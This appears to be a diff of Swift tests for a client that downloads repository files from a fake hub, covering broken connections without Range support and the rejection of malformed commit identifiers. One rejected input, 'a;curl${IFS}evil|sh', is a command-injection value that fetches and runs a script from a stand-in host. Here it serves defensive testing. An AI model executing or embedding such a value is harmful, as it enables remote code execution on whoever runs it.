@@ -102,8 +102,9 @@ struct TroubleTests {
 
     @Test func withoutRangesABrokenConnectionBeginsAnew() async throws {
         let repository = Content.model()
-        let breaks = Mutex(4)
+        let (breaks, asked) = (Mutex(4), Mutex(0))
         let hub = try await FakeHub(repository) { name, request, _ in
+            if name == Self.weights { asked.withLock { $0 += 1 } }
             var request = request
             request.headers.remove(name: "Range")
             let bytes = repository.files[name]!
@@ -117,7 +118,21 @@ struct TroubleTests {
             return [.write(HTTPStub.head(200, [("Content-Length", "\(bytes.count)")]) + bytes.prefix(70_000)), .close]
         }
         let site = try PullSite()
-        try site.expectWhole(try await site.pull(hub).manifest, hub)
+        var settings = site.settings()
+        settings.connections = 1
+        try site.expectWhole(try await site.pull(hub, settings: settings).manifest, hub)
+        // One that shows that there are no ranges, three that break, one that brings it.
+        #expect(asked.withLock { $0 } == 5)
+    }
+
+    @Test func aCommitThatIsNoneIsRefused() async throws {
+        for commit in ["a;curl${IFS}evil|sh", "main", "", String(repeating: "a", count: 65)] {
+            var repository = Content.model()
+            repository.commit = commit
+            let hub = try await FakeHub(repository)
+            let site = try PullSite()
+            #expect(await words { try await site.pull(hub) }.contains("no commit"), "\(commit)")
+        }
     }
 
     /// Content-Length, Content-Range, or the end of the bytes is not what the listing said.
